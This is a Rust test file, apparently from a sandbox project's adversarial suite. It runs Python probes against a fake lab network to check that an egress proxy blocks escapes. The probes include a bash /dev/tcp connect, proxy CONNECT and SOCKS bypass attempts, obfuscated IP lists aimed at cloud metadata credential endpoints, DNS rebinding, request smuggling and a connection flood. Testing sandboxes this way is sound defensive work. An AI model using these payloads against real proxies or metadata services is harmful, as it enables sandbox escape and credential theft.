    control_escapes(ctx, &ctl, &["unix u connect", "unix ud connect"], &mut j);
    for ((p, t), n) in tallies.iter().zip(&inside) {
        j.control(t.above(*n), format!("{p} saw the control (uid 65534)"));
    }
    let visible = run
        .output()
        .lines()
        .find(|l| l.starts_with("socket files visible"))
        .unwrap_or("socket scan did not report")
        .to_owned();
    j.note(format!(
        "the sandbox's own /tmp, /var/tmp and /run hide the host's sockets there; the host's \
         /usr (and /lib*, /bin, parts of /etc) is bound read-only into the sandbox, and a \
         read-only mount does not stop connect(2) on a socket file (world-writable here, as \
         e.g. /run/dbus/system_bus_socket is): any host service listening on a socket under a \
         visible path is reachable; {visible} (host sockets under visible paths)"
    ));
    Ok(j.verdict())
}

// ---------------------------------------------------------------------------------------
// NET-06

const NET_06: &str = concat!(
    pylib!(),
    r#"
import urllib.request
proxy_ok("n06-proxy")
for host, port in (("198.18.0.10", 8080), ("198.18.0.10", 443), ("198.18.0.10", 22),
                   ("127.0.0.1", 8080), ("fd00:77::10", 80)):
    r = direct(host, port, f"GET /n06-direct-{N} HTTP/1.0\r\n\r\n")
    if r == "CONNECTED":
        esc(f"direct tcp {host}:{port}")
    else:
        say(f"direct {host}:{port}: {r}")
rc, out = run(f"bash -c 'exec 3<>/dev/tcp/198.18.0.10/443 && echo n06-direct-{N} >&3' && echo OPENED")
if "OPENED" in out:
    esc("bash /dev/tcp 198.18.0.10:443")
try:
    socket.getaddrinfo("allowed.test", 8080)
    esc("getaddrinfo allowed.test resolved inside")
except socket.gaierror as e:
    say(f"getaddrinfo: {e}")
try:
    o = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    o.open(f"http://198.18.0.10:8080/n06-direct-{N}", timeout=3).read()
    esc("urllib without proxy reached 198.18.0.10:8080")
except Exception as e:
    say(f"urllib without proxy: {e}")
"#
);

fn net_06(ctx: &mut Ctx) -> Result<Verdict> {
    let lab = Lab::start(ctx)?;
    let mut spec = lab.spec("NET-06.py");
    spec.net = allowlist(&[]);
    let v = vars([]);
    let mut j = Judge::new();
    let run = lab_run(ctx, &lab, &spec, &v)?;
    escapes_inside(ctx, &run, &mut j);
    proxy_ok(ctx, &lab, &run, &format!("n06-proxy-{}", ctx.n), &mut j);
    let direct = format!("n06-direct-{}", ctx.n);
    breach_events(
        &mut j,
        &lab.carrying(&direct),
        "a lab listener saw a direct connection",
    );
    // Every connection the allowed listener saw came from the proxy (the lab's own address).
    for at in ["198.18.0.10:443", "198.18.0.10:22", "127.0.0.1:8080"] {
        breach_events(&mut j, &lab.tcp(at), "a lab listener saw the sandbox");
    }
    let ctl = ctx.control(&lab.spec("NET-06.py"), &v, &lab.control(false))?;
    control_escapes(
        ctx,
        &ctl,
        &[
            "direct tcp 198.18.0.10:8080",
            "direct tcp 198.18.0.10:443",
            "bash /dev/tcp",
        ],
        &mut j,
    );
    j.control(
        !lab.carrying(&direct).is_empty(),
        "the lab listeners logged the control's direct connections",
    );
    lab.close();
    Ok(j.verdict())
}

// ---------------------------------------------------------------------------------------
// NET-07

const NET_07: &str = concat!(
    pylib!(),
    r#"
proxy_ok("n07-ok")
t = f"GET /n07-tunnel-{N} HTTP/1.0\r\n\r\n".encode()
for label, raw in (
        ("GET denied.test:8080", f"GET http://denied.test:8080/n07-{N} HTTP/1.1\r\nHost: denied.test:8080\r\n\r\n"),
        ("GET allowed.test:8081", f"GET http://allowed.test:8081/n07-{N} HTTP/1.1\r\nHost: allowed.test:8081\r\n\r\n"),
        ("GET allowed.test (port 80)", f"GET http://allowed.test/n07-{N} HTTP/1.1\r\nHost: allowed.test\r\n\r\n"),
        ("CONNECT allowed.test:22", "CONNECT allowed.test:22 HTTP/1.1\r\nHost: allowed.test:22\r\n\r\n"),
        ("CONNECT denied.test:443", "CONNECT denied.test:443 HTTP/1.1\r\nHost: denied.test:443\r\n\r\n"),
        ("CONNECT 198.18.0.11:8080", "CONNECT 198.18.0.11:8080 HTTP/1.1\r\nHost: 198.18.0.11:8080\r\n\r\n"),
        ("CONNECT 198.18.0.10:8080 (listed by name only)", "CONNECT 198.18.0.10:8080 HTTP/1.1\r\nHost: 198.18.0.10:8080\r\n\r\n"),
        ("PUT denied.test", f"PUT http://denied.test:8080/n07-{N} HTTP/1.1\r\nHost: denied.test:8080\r\nContent-Length: 0\r\n\r\n"),
        ("origin-form GET", f"GET /n07-{N} HTTP/1.1\r\nHost: denied.test:8080\r\n\r\n"),
        ("ftp://", "GET ftp://denied.test:8080/ HTTP/1.1\r\nHost: denied.test:8080\r\n\r\n")):
    refused(label, *preq(raw, after=t))
for label, req in (("socks5 connect denied.test:8080", b"\x05\x01\x00\x03\x0bdenied.test\x1f\x90"),
                   ("socks4 connect 198.18.0.11:8080", None)):
    try:
        s = socket.create_connection(proxy(), 5)
        if req is None:
            s.sendall(b"\x04\x01\x1f\x90\xc6\x12\x00\x0bn07\x00")
        else:
            s.sendall(b"\x05\x01\x00")
            s.settimeout(3)
            r = s.recv(64)
            if r[:2] == b"\x05\x00":
                s.sendall(req)
        s.settimeout(3)
        r = s.recv(64)
        if r[:2] in (b"\x05\x00", b"\x00\x5a"):
            esc(f"{label}: accepted {r!r}")
        else:
            say(f"{label}: {r[:60]!r}")
    except OSError as e:
        say(f"{label}: {e}")
"#
);

fn net_07(ctx: &mut Ctx) -> Result<Verdict> {
    let lab = Lab::start(ctx)?;
    let mut spec = lab.spec("NET-07.py");
    spec.net = allowlist(&[]);
    let v = vars([]);
    let mut j = Judge::new();
    let run = lab_run(ctx, &lab, &spec, &v)?;
    escapes_inside(ctx, &run, &mut j);
    proxy_ok(ctx, &lab, &run, &format!("n07-ok-{}", ctx.n), &mut j);
    let refused = [
        "198.18.0.11:8080",
        "198.18.0.11:443",
        "198.18.0.10:8081",
        "198.18.0.10:22",
        "127.0.0.1:80",
    ];
    for at in refused {
        breach_events(
            &mut j,
            &lab.tcp(at),
            "a refused lab listener saw the sandbox",
        );
    }
    breach_events(
        &mut j,
        &lab.carrying(&format!("n07-tunnel-{}", ctx.n)),
        "a refused CONNECT was tunnelled",
    );
    let resolved: Vec<Event> = lab
        .dns()
        .into_iter()
        .filter(|e| e.at == "denied.test")
        .collect();
    breach_events(&mut j, &resolved, "the proxy resolved an unlisted name");
    lab.poke_control(&refused, &ctx.n.clone(), &mut j);
    lab.close();
    Ok(j.verdict())
}

// ---------------------------------------------------------------------------------------
// NET-08

const NET_08: &str = concat!(
    pylib!(),
    r#"
# The first three canonicalize to exactly allowed.test:8080; every other must get a 4xx.
SPELLINGS = ["allowed.test:8080", "ALLOWED.TEST.:8080", "allowed.test.:8080",
             "allowed.test.denied.test:8080", "denied-allowed.test:8080",
             "allowed.test@denied.test:8080", "allowed.test%00.denied.test:8080",
             "allowed.test:8080@denied.test:8080", "[::ffff:198.18.0.11]:8080",
             "allowed.test:08080", "allowed.test :8080", "allowed.test..:8080",
             "allowed.test:8080:8080", "allowed.test\t:8080", "allowed.test:+8080",
             "allowed.test:8080#denied.test", "xn--allowed.test:8080", "allowed%2etest:8080",
             "Allowed.Test:8080 HTTP/1.1\r\nHost: denied.test:8080\r\nX:", "denied.test:8080",
             "198.18.0.11:8080", "allowed.test.:443x"]
GOOD = 3
for i, t in enumerate(SPELLINGS):
    raw = f"CONNECT {t} HTTP/1.1\r\nHost: {t}\r\n\r\n"
    st, code, data = preq(raw, after=f"GET /n08-{i}-{N} HTTP/1.0\r\n\r\n".encode())
    say(f"R {i} {st} {code} {t!r}")
    if i < GOOD:
        if st != 200:
            say(f"canonical spelling {t!r} refused: {st} {code}")
    elif 200 <= st < 300:
        esc(f"spelling {t!r} got {st}")
    elif not (400 <= st < 500):
        esc(f"spelling {t!r}: not refused by policy: {st} {code}")
"#
);

fn net_08(ctx: &mut Ctx) -> Result<Verdict> {
    let lab = Lab::start(ctx)?;
    let mut spec = lab.spec("NET-08.py");
    spec.net = allowlist(&[]);
    let v = vars([]);
    let mut j = Judge::new();
    let run = lab_run(ctx, &lab, &spec, &v)?;
    escapes_inside(ctx, &run, &mut j);
    let n = ctx.n.clone();
    // Spelling 0 is the literal allowed.test:8080: the positive control of the proxy path.
    j.control(
        lab.tcp("198.18.0.10:8080")
            .iter()
            .any(|e| e.data.contains(&format!("n08-0-{n}"))),
        "CONNECT allowed.test:8080 (spelling 0) arrived at 198.18.0.10:8080",
    );
    for e in lab.carrying(&format!("-{n}")) {
        let good = (0..3).any(|i| e.data.contains(&format!("n08-{i}-{n}")));
        j.breach(
            !good || e.at != "198.18.0.10:8080",
            format!("a non-canonical spelling arrived: {}", e.show()),
        );
    }
    for i in 1..3 {
        let arrived = lab
            .tcp("198.18.0.10:8080")
            .iter()
            .any(|e| e.data.contains(&format!("n08-{i}-{n}")));
        j.note(format!(
            "canonical spelling {i} {}",
            if arrived {
                "was tunnelled to 198.18.0.10:8080"
            } else {
                "was refused (stricter than required)"
            }
        ));
    }
    lab.poke_control(&["198.18.0.11:8080"], &n, &mut j);
    lab.close();
    Ok(j.verdict())
}

// ---------------------------------------------------------------------------------------
// NET-09

const NET_09: &str = concat!(
    pylib!(),
    r#"
proxy_ok("n09-ok")
HOSTS = ["127.0.0.1", "127.1", "0", "0.0.0.0", "2130706433", "0x7f000001", "0177.0.0.1",
         "[::1]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "10.77.0.5", "169.254.169.254",
         "2852039166", "0xa9fea9fe", "[::ffff:169.254.169.254]", "[fd00:77::10]",
         "[fd00:ec2::254]", "[fe80::1%25lo]", "[64:ff9b::a9fe:a9fe]", "[2002:a9fe:a9fe::]",
         "169.254.169.254.", "[::]", "[0:0:0:0:0:ffff:a9fe:a9fe]", "0251.0376.0251.0376"]
for i, h in enumerate(HOSTS):
    st, code, data = get(f"{h}:80", f"/latest/meta-data/n09-{i}-{N}")
    refused(f"GET {h}:80", st, code, data)
t = f"GET /n09-tunnel-{N} HTTP/1.0\r\n\r\n".encode()
for a in ("127.0.0.1:3128", "127.0.0.1:8080", "127.0.0.1:80", "169.254.169.254:80",
          "10.77.0.5:80", "[fd00:ec2::254]:80", "[::1]:3128", "localhost:3128",
          "localhost:8080"):
    refused(f"CONNECT {a}", *preq(f"CONNECT {a} HTTP/1.1\r\nHost: {a}\r\n\r\n", after=t))
"#
);

const PRIVATE_LISTENERS: &[&str] = &[
    "169.254.169.254:80",
    "10.77.0.5:80",
    "127.0.0.1:80",
    "127.0.0.1:8080",
    "[fd00:77::10]:80",
    "[fd00:ec2::254]:80",
];

fn net_09(ctx: &mut Ctx) -> Result<Verdict> {
    let lab = Lab::start(ctx)?;
    let mut spec = lab.spec("NET-09.py");
    spec.net = allowlist(&[]);
    let v = vars([]);
    let mut j = Judge::new();
    let run = lab_run(ctx, &lab, &spec, &v)?;
    escapes_inside(ctx, &run, &mut j);
    for at in PRIVATE_LISTENERS {
        breach_events(
            &mut j,
            &lab.tcp(at),
            "a private/metadata listener saw the sandbox",
        );
    }
    for e in lab.carrying(&format!("-{}", ctx.n)) {
        j.breach(
            !e.data.contains("n09-ok"),
            format!("a lab listener saw the sandbox: {}", e.show()),
        );
    }
    proxy_ok(ctx, &lab, &run, &format!("n09-ok-{}", ctx.n), &mut j);
    lab.poke_control(PRIVATE_LISTENERS, &ctx.n.clone(), &mut j);
    lab.close();
    Ok(j.verdict())
}

// ---------------------------------------------------------------------------------------
// NET-10

const NET_10: &str = concat!(
    pylib!(),
    r#"
proxy_ok("n10-ok")
for i, (host, path) in enumerate((("meta.test", "/latest/meta-data/"), ("private.test", "/"),
                                  ("loop.test:8080", "/"), ("v6meta.test", "/"),
                                  ("metadata.google.internal", "/computeMetadata/v1/"))):
    st, code, data = get(host, f"{path}n10-{i}-{N}", extra="Metadata-Flavor: Google\r\n")
    refused(f"GET {host}", st, code, data)
t = f"GET /n10-tunnel-{N} HTTP/1.0\r\n\r\n".encode()
for a in ("meta.test:80", "private.test:80", "loop.test:8080", "v6meta.test:80",
          "metadata.google.internal:80"):
    refused(f"CONNECT {a}", *preq(f"CONNECT {a} HTTP/1.1\r\nHost: {a}\r\n\r\n", after=t))
"#
);

fn net_10(ctx: &mut Ctx) -> Result<Verdict> {
    let lab = Lab::start(ctx)?;
    let mut spec = lab.spec("NET-10.py");
    // Listing the mapped-IPv6 and Google names too, so they are refused after resolution.
    spec.net = allowlist(&["v6meta.test:80", "metadata.google.internal:80"]);
    let v = vars([]);
    let mut j = Judge::new();
    let run = lab_run(ctx, &lab, &spec, &v)?;
    escapes_inside(ctx, &run, &mut j);
    proxy_ok(ctx, &lab, &run, &format!("n10-ok-{}", ctx.n), &mut j);
    for at in PRIVATE_LISTENERS {
        breach_events(
            &mut j,
            &lab.tcp(at),
            "a private/metadata listener saw the sandbox",
        );
    }
    // Refused after resolution: the proxy did resolve each listed name.
    let asked: Vec<String> = lab.dns().iter().map(|e| e.at.clone()).collect();
    for name in [
        "meta.test",
        "private.test",
        "loop.test",
        "v6meta.test",
        "metadata.google.internal",
    ] {
        j.control(
            asked.iter().any(|a| a == name),
            format!("the proxy resolved the listed {name} through the lab DNS"),
        );
    }
    lab.poke_control(PRIVATE_LISTENERS, &ctx.n.clone(), &mut j);
    lab.close();
    Ok(j.verdict())
}

// ---------------------------------------------------------------------------------------
// NET-11

const NET_11: &str = concat!(
    pylib!(),
    r#"
counts = {}
for i in range(120):
    st, code, data = get("rebind.test:8080", f"/n11-alt-{i}-{N}")
    counts[(st, code)] = counts.get((st, code), 0) + 1
    if st == 200 and b"hello-from-198.18.0.10:8080" not in data:
        esc(f"rebind.test answered from elsewhere: {data[:120]!r}")
    elif st not in (200, 403):
        say(f"alt {i}: {st} {code}")
say(f"alternating: {counts}")
ok = sum(v for (st, _), v in counts.items() if st == 200)
say(f"REBIND-OK {ok}")
counts = {}
for i in range(40):
    st, code, data = get("rebind2.test:8080", f"/n11-both-{i}-{N}")
    counts[(st, code)] = counts.get((st, code), 0) + 1
    if 200 <= st < 300:
        esc(f"rebind2.test (both answers) accepted: {st} {data[:80]!r}")
say(f"both answers: {counts}")
"#
);

fn net_11(ctx: &mut Ctx) -> Result<Verdict> {
    let lab = Lab::start(ctx)?;
    let mut spec = lab.spec("NET-11.py");
    spec.net = allowlist(&["rebind2.test:8080"]);
    let v = vars([]);
    let mut j = Judge::new();
    let run = lab_run(ctx, &lab, &spec, &v)?;
    escapes_inside(ctx, &run, &mut j);
    let n = ctx.n.clone();
    breach_events(
        &mut j,
        &lab.tcp("127.0.0.1:8080"),
        "the lab loopback listener saw a rebound connection",
    );
    for e in lab.carrying(&format!("-{n}")) {
        j.breach(
            e.at != "198.18.0.10:8080" || e.data.contains("n11-both"),
            format!("a rebinding request arrived: {}", e.show()),
        );
    }
    let dns = lab.dns();
    let rebound = dns
        .iter()
        .filter(|e| e.at == "rebind.test" && e.data == "127.0.0.1")
        .count();
    let good = dns
        .iter()
        .filter(|e| e.at == "rebind.test" && e.data == "198.18.0.10")
        .count();
    j.control(
        rebound > 0 && good > 0,
        format!(
            "the lab DNS gave the proxy both rebind.test answers ({good} x 198.18.0.10, \
             {rebound} x 127.0.0.1)"
        ),
    );
    j.control(
        dns.iter().any(|e| e.at == "rebind2.test"),
        "the proxy resolved rebind2.test (both answers in one set)",
    );
    let arrived = lab
        .tcp("198.18.0.10:8080")
        .iter()
        .filter(|e| e.data.contains("n11-alt"))
        .count();
    j.control(
        arrived > 0,
        format!("{arrived} alternating request(s) that resolved to 198.18.0.10 got through"),
    );
    lab.poke_control(&["127.0.0.1:8080"], &n, &mut j);
    lab.close();
    Ok(j.verdict())
}

// ---------------------------------------------------------------------------------------
// NET-12

const NET_12: &str = concat!(
    pylib!(),
    r#"
import ssl, threading
proxy_ok("n12-ok")
# (a) Host header does not match the request target.
st, code, data = preq(f"GET http://allowed.test:8080/n12a-{N} HTTP/1.1\r\nHost: denied.test:8080\r\n\r\n")
refused("(a) Host mismatch", st, code, data)
st, code, data = preq(f"CONNECT allowed.test:8080 HTTP/1.1\r\nHost: denied.test:8080\r\n\r\n",
                      after=f"GET /n12a-{N} HTTP/1.0\r\n\r\n".encode())
refused("(a) CONNECT Host mismatch", st, code, data)
# (b) A second request pipelined on the same connection.
st, code, data = preq(f"GET http://allowed.test:8080/n12b-first-{N} HTTP/1.1\r\nHost: allowed.test:8080\r\n\r\n"
                      f"GET http://denied.test:8080/n12b-second-{N} HTTP/1.1\r\nHost: denied.test:8080\r\n\r\n")
say(f"(b) pipelined: {st} {code}; second answered: {data.count(b'HTTP/')}")
st, code, data = preq(f"POST http://allowed.test:8080/n12b-first-{N} HTTP/1.1\r\nHost: allowed.test:8080\r\nContent-Length: 4\r\n\r\nabcd"
                      f"GET http://denied.test:8080/n12b-second-{N} HTTP/1.1\r\nHost: denied.test:8080\r\n\r\n")
say(f"(b) pipelined after a body: {st} {code}")
# (c) SNI that does not match the tunnel.
try:
    s = socket.create_connection(proxy(), 5)
    s.sendall(b"CONNECT allowed.test:443 HTTP/1.1\r\nHost: allowed.test:443\r\n\r\n")
    r = s.recv(4096)
    first = r.split(b"\r\n")[0]
    say(f"(c) CONNECT allowed.test:443: {first!r}")
    if r.startswith(b"HTTP/1.1 200"):
        c = ssl.create_default_context()
        c.check_hostname = False
        c.verify_mode = ssl.CERT_NONE
        try:
            t = c.wrap_socket(s, server_hostname=f"n12c-{N}.denied.test")
            esc("(c) TLS handshake with SNI denied.test completed")
        except (ssl.SSLError, OSError) as e:
            say(f"(c) TLS: {e}")
    s.close()
except OSError as e:
    say(f"(c): {e}")
# (d) SOCKS5 BIND and UDP ASSOCIATE.
for label, req in (("BIND", b"\x05\x02\x00\x03\x0bdenied.test\x1f\x90"),
                   ("UDP ASSOCIATE", b"\x05\x03\x00\x01\x00\x00\x00\x00\x00\x00")):
    try:
        s = socket.create_connection(proxy(), 5)
        s.sendall(b"\x05\x01\x00" + req)
        s.settimeout(3)
        r = s.recv(64)
        if r[:1] == b"\x05" and (r[1:2] == b"\x00" or r[3:4] == b"\x00"):
            esc(f"(d) SOCKS5 {label} accepted: {r!r}")
        else:
            say(f"(d) SOCKS5 {label}: {r[:60]!r}")
    except OSError as e:
        say(f"(d) {label}: {e}")
# (e) Upgrade: websocket and h2c.
for host in ("denied.test:8080", "allowed.test:8080"):
    for up in ("websocket", "h2c"):
        extra = (f"Connection: Upgrade\r\nUpgrade: {up}\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
                 "Sec-WebSocket-Version: 13\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n")
        st, code, data = get(host, f"/n12e-{up}-{N}", extra=extra)
        if host.startswith("denied"):
            refused(f"(e) {up} to {host}", st, code, data)
        elif st == 101:
            esc(f"(e) {up} to {host} switched protocols")
        else:
            say(f"(e) {up} to {host}: {st} {code}")
# (f) A 1 MiB header, then more connections than the proxy serves at once.
big = "a" * (1 << 20)
st, code, data = preq(f"GET http://allowed.test:8080/n12f-{N} HTTP/1.1\r\nHost: allowed.test:8080\r\nX-Big: {big}\r\n\r\n")
say(f"(f) 1 MiB header: {st} {code}")
held = []
for i in range(150):
    try:
        held.append(socket.create_connection(proxy(), 2))
    except OSError as e:
        say(f"(f) flood {i}: {e}")
        break
busy = 0
for s in held:
    s.setblocking(False)
    try:
        if s.recv(64).startswith(b"HTTP/1.1 503"):
            busy += 1
    except OSError:
        pass
say(f"(f) held {len(held)} connections, {busy} answered 503 at once")
for s in held:
    s.close()
time.sleep(0.5)
st, code, data = get("allowed.test:8080", f"/n12f-after-{N}")
if st == 200:
    say(f"PROXY-AVAILABLE-{N}")
else:
    esc(f"(f) the proxy is unavailable after the flood: {st} {code}")
"#
);

fn net_12(ctx: &mut Ctx) -> Result<Verdict> {
    let lab = Lab::start(ctx)?;
    let mut spec = lab.spec("NET-12.py");
    spec.net = allowlist(&[]);
    spec.max_processes = 64;
    let v = vars([]);
    let mut j = Judge::new();
    let run = lab_run(ctx, &lab, &spec, &v)?;
    escapes_inside(ctx, &run, &mut j);
    let n = ctx.n.clone();
    proxy_ok(ctx, &lab, &run, &format!("n12-ok-{n}"), &mut j);
    for at in ["198.18.0.11:8080", "198.18.0.11:443"] {
        breach_events(
            &mut j,
            &lab.tcp(at),
            "a denied.test listener saw the sandbox",
        );
    }
    for marker in ["n12a-", "n12b-second-", "n12e-"] {
        breach_events(
            &mut j,
            &lab.carrying(marker),
            "a refused request was forwarded",
        );
    }
    j.control(
        !lab.carrying(&format!("n12b-first-{n}")).is_empty(),
        "the first of the pipelined requests was forwarded (so the second would have shown)",
    );
    let sni = lab
        .tcp("198.18.0.10:443")
        .iter()
        .any(|e| e.data.contains("denied.test"));
    j.note(format!(
        "(c) SNI is not checked inside a CONNECT tunnel (ADR-0030, documented): the tunnel \
         to allowed.test:443 went to 198.18.0.10:443 {} whatever SNI said, and the denied.test \
         listeners stayed empty: the guarantee 'only listed destinations' holds",
        if sni {
            "(its listener logged the ClientHello naming denied.test)"
        } else {
            ""
        }
    ));
    j.control(
        run.output().contains(&format!("PROXY-AVAILABLE-{n}")),
        "(f) after the flood, a request through the proxy still answered 200",
    );
    lab.poke_control(&["198.18.0.11:8080", "198.18.0.11:443"], &n, &mut j);
    lab.close();
    Ok(j.verdict())
}

// ---------------------------------------------------------------------------------------
// NET-13

const NET_13: &str = r#"# No connect is attempted anywhere: this host's only vsock transport goes to the
# hypervisor (no vsock_loopback), so the attack is the socket(2) call itself.
for label, dom, typ in (("vsock-stream", 40, 1), ("vsock-dgram", 40, 2),
                        ("vsock-seqpacket", 40, 5), ("vsock-wide 1<<32", 0x100000028, 1),
                        ("vsock-wide ffffffff<<32", 0xffffffff00000028, 1),
                        ("vsock-wide cloexec", 0x100000028, 1 | 0x80000)):
    r, e = scall(41, dom, typ, 0)
    if r >= 0:
        esc(f"{label}: socket(AF_VSOCK) returned fd {r}")
        os.close(r)
    elif e in ("EPERM", "EAFNOSUPPORT", "ENODEV", "EACCES", "ENOSYS"):
        say(f"{label}: {e}")
    else:
        esc(f"{label}: reached the kernel ({e})")
"#;

fn net_13(ctx: &mut Ctx) -> Result<Verdict> {
    let spec = RunSpec::new("NET-13.py");
    let v = vars([]);
    let run = ctx.run(&spec, &v)?;
    let ctl = ctx.control(&spec, &v, &Control::default())?;
    let mut j = Judge::new();
    judge_escapes(
        ctx,
        &run,
        &ctl,
        &["vsock-stream", "vsock-wide 1<<32"],
        &mut j,
    );
    j.note(
        "the vsock listener part is not observable here: the kernel has no vsock_loopback \
         (CONFIG_VSOCKETS_LOOPBACK unset, no module loading), its only transport is virtio to \
         the hypervisor, so no local listener can be reached and none is contacted; the \
         socket(2) call itself is the attack (the control outside gets a descriptor)",
    );
    Ok(j.verdict())
}

// ---------------------------------------------------------------------------------------
// CRED-08

const CRED_08: &str = concat!(
    pylib!(),
    r#"
for host, port, req in (
        ("169.254.169.254", 80, f"GET /latest/meta-data/iam/security-credentials/c08-{N} HTTP/1.0\r\n\r\n"),
        ("169.254.169.254", 80, f"PUT /latest/api/token/c08-{N} HTTP/1.0\r\nX-aws-ec2-metadata-token-ttl-seconds: 60\r\n\r\n"),
        ("fd00:ec2::254", 80, f"GET /latest/meta-data/c08-{N} HTTP/1.0\r\n\r\n"),
        ("metadata.google.internal", 80, f"GET /computeMetadata/v1/c08-{N} HTTP/1.0\r\nMetadata-Flavor: Google\r\n\r\n")):
    r = direct(host, port, req)
    if r == "CONNECTED":
        esc(f"metadata {host}:{port} reached")
    else:
        say(f"{host}:{port}: {r}")
if proxy():
    refused("proxied 169.254.169.254", *get("169.254.169.254", f"/latest/meta-data/c08-{N}"))
"#
);

fn cred_08(ctx: &mut Ctx) -> Result<Verdict> {
    let lab = Lab::start(ctx)?;
    let v = vars([]);
    let mut j = Judge::new();
    let none = lab_run(ctx, &lab, &lab.spec("CRED-08.py"), &v)?;
    escapes_inside(ctx, &none, &mut j);
    let mut spec = lab.spec("CRED-08.py");
    spec.net = allowlist(&[]);
    let allow = lab_run(ctx, &lab, &spec, &v)?;
    escapes_inside(ctx, &allow, &mut j);
    let meta = ["169.254.169.254:80", "[fd00:ec2::254]:80"];
    for at in meta {
        breach_events(
            &mut j,
            &lab.tcp(at),
            "a fake metadata listener saw the sandbox",
        );
    }
    let ctl = ctx.control(&lab.spec("CRED-08.py"), &v, &lab.control(false))?;
    control_escapes(
        ctx,
        &ctl,
        &["metadata 169.254.169.254:80", "metadata fd00:ec2::254:80"],
        &mut j,
    );
    for at in meta {
        j.control(
            !lab.tcp(at).is_empty(),
            format!("the fake metadata listener {at} logged the control"),
        );
    }
    lab.close();
    Ok(j.verdict())
}

// ---------------------------------------------------------------------------------------
// The lab daemon (fixture `lab/labd.py`).

const LABD: &str = r##"#!/usr/bin/python3
# Generated by `cargo xtask fixtures` from xtask/src/adversarial/cases/net.rs; do not edit.
# The egress lab daemon (corpus §0.4). Runs as root inside a lab network namespace the
# harness created (`ip netns exec corral-adv-lab-<N> python3 labd.py LOG`): TCP listeners that
# log the peer and the first bytes of every connection, UDP listeners that log every
# datagram, and the lab DNS server on 127.0.0.53:53 (and 127.0.0.1:53) that logs every query
# and answers the lab's table. Every event is one tab-separated line appended to LOG:
#   tcp <local> <peer> <first bytes, repr>
#   udp <local> <peer> <first bytes, repr>
#   dns <name> <qtype> <answer> <peer>
# Prints READY once every socket is bound. Never reaches anything outside the namespace.
import socket, struct, sys, threading

LOG = open(sys.argv[1], "a", buffering=1)
LOCK = threading.Lock()

TCP = ["198.18.0.10:8080", "198.18.0.10:8081", "198.18.0.10:443", "198.18.0.10:22",
       "198.18.0.11:8080", "198.18.0.11:443", "10.77.0.5:80", "169.254.169.254:80",
       "[fd00:77::10]:80", "[fd00:ec2::254]:80", "127.0.0.1:80", "127.0.0.1:8080"]
UDP = ["127.0.0.1:5300", "198.18.0.10:5300", "198.18.0.10:53"]
DNS = ["127.0.0.53:53", "127.0.0.1:53"]

A, AAAA = 1, 28
TABLE = {
    "allowed.test": [(A, "198.18.0.10")],
    "denied.test": [(A, "198.18.0.11")],
    "private.test": [(A, "10.77.0.5")],
    "meta.test": [(A, "169.254.169.254")],
    "metadata.google.internal": [(A, "169.254.169.254")],
    "loop.test": [(A, "127.0.0.1")],
    "v6meta.test": [(AAAA, "::ffff:169.254.169.254")],
    # rebind.test alternates (see answer()); rebind2.test returns both A records at once.
    "rebind2.test": [(A, "198.18.0.10"), (A, "127.0.0.1")],
}
REBIND = [0]


def log(*fields):
    line = "\t".join(str(f).replace("\t", " ").replace("\n", " ") for f in fields)
    with LOCK:
        LOG.write(line + "\n")
        LOG.flush()


def split(at):
    host, port = at.rsplit(":", 1)
    host = host.strip("[]")
    fam = socket.AF_INET6 if ":" in host else socket.AF_INET
    return fam, host, int(port)


def peer_str(p):
    return f"[{p[0]}]:{p[1]}" if ":" in p[0] else f"{p[0]}:{p[1]}"


def serve_conn(c, peer, at):
    c.settimeout(0.5)
    data = b""
    try:
        while b"\r\n\r\n" not in data and len(data) < 16384:
            b = c.recv(4096)
            if not b:
                break
            data += b
    except OSError:
        pass
    log("tcp", at, peer_str(peer), repr(data[:200]))
    body = f"hello-from-{at}".encode()
    try:
        c.sendall(b"HTTP/1.0 200 OK\r\nContent-Length: %d\r\n\r\n%s" % (len(body), body))
    except OSError:
        pass
    c.close()


def tcp(at):
    fam, host, port = split(at)
    s = socket.socket(fam, socket.SOCK_STREAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind((host, port))
    s.listen(256)

    def loop():
        while True:
            c, peer = s.accept()
            threading.Thread(target=serve_conn, args=(c, peer, at), daemon=True).start()
    threading.Thread(target=loop, daemon=True).start()


def udp(at):
    fam, host, port = split(at)
    s = socket.socket(fam, socket.SOCK_DGRAM)
    s.bind((host, port))

    def loop():
        while True:
            data, peer = s.recvfrom(4096)
            log("udp", at, peer_str(peer), repr(data[:200]))
    threading.Thread(target=loop, daemon=True).start()


def answer(name, qtype):
    if name == "rebind.test":
        if qtype != A:
            return 0, []
        REBIND[0] += 1
        return 0, [(A, "198.18.0.10" if REBIND[0] % 2 else "127.0.0.1")]
    if name in TABLE:
        return 0, [r for r in TABLE[name] if r[0] == qtype]
    return 3, []  # NXDOMAIN (*.exfil.test and everything else)


def dns_reply(data):
    tid, flags = data[:2], struct.unpack(">H", data[2:4])[0]
    i, labels = 12, []
    while data[i] != 0:
        n = data[i]
        labels.append(data[i + 1:i + 1 + n].decode("latin1"))
        i += 1 + n
    qtype = struct.unpack(">H", data[i + 1:i + 3])[0]
    question = data[12:i + 5]
    name = ".".join(labels).lower().rstrip(".")
    rcode, rrs = answer(name, qtype)
    out = tid + struct.pack(">HHHHH", 0x8080 | (flags & 0x0100) | rcode, 1, len(rrs), 0, 0)
    out += question
    for t, addr in rrs:
        rd = socket.inet_pton(socket.AF_INET if t == A else socket.AF_INET6, addr)
        out += struct.pack(">HHHIH", 0xC00C, t, 1, 0, len(rd)) + rd
    shown = ",".join(a for _, a in rrs) or ("NXDOMAIN" if rcode == 3 else "NODATA")
    return name, qtype, shown, out


def dns(at):
    fam, host, port = split(at)
    s = socket.socket(fam, socket.SOCK_DGRAM)
    s.bind((host, port))

    def loop():
        while True:
            data, peer = s.recvfrom(4096)
            try:
                name, qtype, shown, out = dns_reply(data)
            except Exception as e:  # not a DNS query: log it anyway
                log("dns", repr(data[:200]), "?", f"unparsable {e}", peer_str(peer))
                continue
            log("dns", name, qtype, shown, peer_str(peer))
            s.sendto(out, peer)
    threading.Thread(target=loop, daemon=True).start()


for a in TCP:
    tcp(a)
for a in UDP:
    udp(a)
for a in DNS:
    dns(a)
print("READY", flush=True)
threading.Event().wait()
"##;
